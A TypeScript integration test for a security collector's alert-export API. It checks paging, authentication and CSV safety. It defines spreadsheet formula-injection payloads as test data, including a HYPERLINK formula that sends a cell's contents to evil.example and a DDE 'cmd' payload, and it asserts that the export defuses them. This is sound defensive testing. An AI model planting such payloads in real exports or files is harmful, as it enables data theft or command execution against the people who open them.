// GET /api/alerts/export (#22 item 7) against the real collector (a child process, on SQLite in a
// temp dir and on a throwaway PostgreSQL cluster) fed by a real agent sink over the real protocol:
// more alerts than one page of the store, in runs of equal timestamps that straddle the pages, so
// the export must follow the cursor without losing or repeating one; and one alert whose fields a
// hostile agent chose to be spreadsheet formulas. NDJSON must give back the documents as the API
// shows them; CSV must defuse every formula and survive quotes, commas and newlines. On SQLite the
// dashboard's download (GET /ui/api/alerts/export) is checked too, with a session, not a token.
import { randomUUID } from 'node:crypto';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_PAGE } from '../../collector/src/export.js';
import { WebSocketSink } from '../../agent/src/sink/websocket.js';
import type { Alert } from '../../shared/ecs.js';
import { callApi, createToken, startTestCollector, type TestCollector } from '../helpers/collector.js';
import { makeAlert, makeFacts, waitFor } from '../helpers/delivery.js';
import { postgresUnavailable, startPostgres } from '../helpers/postgres.js';
import { tempDir } from '../helpers/temp.js';


const work = tempDir('ldg-export-');
const noPostgres = postgresUnavailable();
// More than two pages of the API's reader: the export has to page through the store.
const BULK = 2 * EXPORT_PAGE + 100;
/** Alerts sharing each timestamp: 3 does not divide EXPORT_PAGE, so a run straddles each page end. */
const TIE = 3;
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")';
// A formula, a comma and quotes: the CSV must both quote and defuse it.
const HOSTILE_HOST = `${HYPERLINK},web`;
const HOSTILE_EXE = '+cmd|\' /C calc\'!A0';
const HOSTILE_USER = '@SUM(1+1)*cmd';
const HOSTILE_PATH = '/usr/lib/ld-linux,"quoted"\nline2.so';
const HOSTILE_HASH = '\t-2+3';
const CSV_COLUMNS = ['time', 'severity', 'rule', 'host', 'file_path', 'file_hash_sha256', 'process_executable', 'process_pid', 'user', 'status'];

/** RFC 4180: quoted cells may hold commas, quotes ("") and line breaks; records end in CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  expect(cell === '' && row.length === 0, 'the CSV ends with a complete record').toBe(true);
  return rows;
}

const ndjson = (text: string) => text.trimEnd().split('\n').map((l) => JSON.parse(l) as Alert & { ldguard: { notice?: unknown } });
// The collector's own notices (notices.ts) share the list: an agent_silent one comes when the
// sink's heartbeats lag under load. The counts below are of the agent's alerts.
const agents = <T extends { ldguard: { notice?: unknown } }>(docs: T[]) => docs.filter((d) => d.ldguard.notice === undefined);
const agentRows = (rows: string[][]) => rows.filter((r, i) => i === 0 || r[2] === 'Dynamic Linker Creation');

describe.each(['sqlite', 'postgres'] as const)('alerts export on %s', (kind) => {
  const skip = kind === 'postgres' ? noPostgres : undefined;
  let c: TestCollector;
  let admin: string;
  let sink: WebSocketSink | undefined;
  let hostile: Alert;

  async function exportText(query: string, path = '/api/alerts/export', headers: Record<string, string> = { authorization: `Bearer ${admin}` }): Promise<{ status: number; text: string; headers: Headers }> {
    const res = await fetch(`http://127.0.0.1:${c.port}${path}?${query}`, { headers });
    return { status: res.status, text: await res.text(), headers: res.headers };
  }

  beforeAll(async () => {
    if (skip) return;
    let db: string;
    if (kind === 'sqlite') db = join(work, `export-${randomUUID()}`, 'collector.db');
    else db = await (await startPostgres()).createDb('export');
    admin = await createToken(db, 'alice', 'admin');
    const agentToken = await createToken(db, 'agent-1');
    c = await startTestCollector(work, db);
    const s = await WebSocketSink.open({
      url: `ws://127.0.0.1:${c.port}`, token: agentToken, spoolDir: join(work, `spool-${kind}`), spoolMaxBytes: 64 * 1024 * 1024,
      facts: () => makeFacts('agent-export', 'web-1'), heartbeatMs: 500, backoffInitialMs: 50, backoffMaxMs: 400,
    });
    sink = s;
    await waitFor(() => s.health().connected, 5000, 'the agent to connect');
    const t0 = Date.parse('2026-01-01T00:00:00Z');
    for (let i = 0; i < BULK; i++) await s.send(makeAlert({ agentId: 'agent-export', host: `web-${i % 7}`, time: new Date(t0 + Math.floor(i / TIE) * 1000).toISOString() }));
    hostile = makeAlert({ agentId: 'agent-export', host: HOSTILE_HOST, path: HOSTILE_PATH, severity: 'high', time: new Date(t0 + BULK * 1000).toISOString() });
    hostile.process.executable = HOSTILE_EXE;
    hostile.process.args = ['cp', HYPERLINK, HOSTILE_PATH];
    hostile.process.command_line = `cp ${HYPERLINK} ${HOSTILE_PATH}`;
    hostile.user = { id: '0', name: HOSTILE_USER };
    (hostile.file as { hash?: { sha256: string } }).hash = { sha256: HOSTILE_HASH };
    await s.send(hostile);
    await waitFor(async () => (await callApi(c.port, `/api/alerts/${hostile.kibana.alert.uuid}`, admin)).status === 200 || undefined, 30_000, 'every alert stored');
  }, 180_000);

  afterAll(async () => {
    await sink?.close();
  });

  it.skipIf(skip)('needs the admin token and a format, and takes no limit', async () => {
    expect((await fetch(`http://127.0.0.1:${c.port}/api/alerts/export?format=csv`)).status).toBe(401);
    const bad = await callApi(c.port, '/api/alerts/export?format=xlsx', admin);
    expect(bad.status).toBe(400);
    expect(bad.body.error.code).toBe('LDG_ERR_API_QUERY');
    expect(bad.body.error.message).toContain('format=ndjson or format=csv');
    const limited = await callApi(c.port, '/api/alerts/export?format=csv&limit=5', admin);
    expect(limited.status).toBe(400);
    expect(limited.body.error.code).toBe('LDG_ERR_API_QUERY');
  });

  it.skipIf(skip)('streams every alert as NDJSON, the documents as the API shows them, across store pages', async () => {
    const r = await exportText('format=ndjson');
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toContain('application/x-ndjson');
    expect(r.headers.get('content-disposition')).toMatch(/^attachment; filename="ldguard-alerts-.*\.ndjson"$/);
    // Written as read: no length known up front.
    expect(r.headers.get('content-length')).toBeNull();
    expect(r.headers.get('transfer-encoding')).toBe('chunked');
    expect(r.text.endsWith('\n')).toBe(true);
    const docs = agents(ndjson(r.text));
    // None lost or repeated where a run of equal timestamps crosses a page end.
    expect(docs).toHaveLength(BULK + 1);
    expect(new Set(docs.map((d) => d.kibana.alert.uuid)).size).toBe(BULK + 1);
    const times = docs.map((d) => Date.parse(d['@timestamp']));
    expect(times).toEqual([...times].sort((a, b) => b - a));
    // Newest first, and the hostile one what GET /api/alerts/:id gives, its formula argument intact.
    expect(docs[0]).toEqual((await callApi(c.port, `/api/alerts/${hostile.kibana.alert.uuid}`, admin)).body.alert);
    expect(docs[0]!.host.name).toBe(HOSTILE_HOST);
    expect(docs[0]!.process.args).toEqual(['cp', HYPERLINK, HOSTILE_PATH]);
    // The same documents the list pages give.
    const first = await callApi(c.port, '/api/alerts?limit=3&rule=06d555e4-c8ce-4d90-90e1-ec7f66df5a6a', admin);
    expect(docs.slice(0, 3)).toEqual(first.body.alerts);
  });

  it.skipIf(skip)('applies the list\'s filters', async () => {
    const r = await exportText(`format=ndjson&host=${encodeURIComponent('web-3')}`);
    const docs = ndjson(r.text);
    expect(docs).toHaveLength(Math.ceil((BULK - 3) / 7));
    expect(docs.every((d) => d.host.name === 'web-3')).toBe(true);
    const high = await exportText('format=csv&severity=high');
    expect(agentRows(parseCsv(high.text))).toEqual([CSV_COLUMNS, expect.arrayContaining([`'${HOSTILE_HOST}`])]);
  });

  it.skipIf(skip)('writes CSV with the chosen columns, every formula defused and quoting intact', async () => {
    const r = await exportText('format=csv');
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toContain('text/csv');
    const rows = agentRows(parseCsv(r.text));
    expect(rows[0]).toEqual(CSV_COLUMNS);
    expect(rows).toHaveLength(BULK + 2);
    expect(rows[1]).toEqual([
      hostile['@timestamp'], 'high', 'Dynamic Linker Creation', `'${HOSTILE_HOST}`, HOSTILE_PATH, `'${HOSTILE_HASH}`, `'${HOSTILE_EXE}`, '4242', `'${HOSTILE_USER}`, 'open',
    ]);
    for (const row of rows) {
      expect(row).toHaveLength(CSV_COLUMNS.length);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rows[2]![3]).toMatch(/^web-\d$/);
  });

  it.skipIf(skip)('gives the dashboard the same download for a session, with the list\'s filters', async () => {
    const anonymous = await exportText('format=csv', '/ui/api/alerts/export', {});
    expect(anonymous.status).toBe(401);
    const login = await fetch(`http://127.0.0.1:${c.port}/ui/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ token: admin }) });
    expect(login.status).toBe(200);
    const cookie = login.headers.get('set-cookie')!.split(';')[0]!;
    const session = { cookie };
    const withCursor = await exportText('format=csv&cursor=x', '/ui/api/alerts/export', session);
    expect(withCursor.status).toBe(400);
    expect(JSON.parse(withCursor.text).error.code).toBe('LDG_ERR_WEB_QUERY');
    const all = await exportText('format=ndjson', '/ui/api/alerts/export', session);
    expect(all.status).toBe(200);
    expect(all.headers.get('content-security-policy')).toContain("default-src 'self'");
    expect(agents(ndjson(all.text))).toHaveLength(BULK + 1);
    const web3 = parseCsv((await exportText('format=csv&host=web-3&status=open', '/ui/api/alerts/export', session)).text);
    expect(web3[0]).toEqual(CSV_COLUMNS);
    expect(web3.slice(1).map((r) => r[3])).toEqual(Array(Math.ceil((BULK - 3) / 7)).fill('web-3'));
  });
});
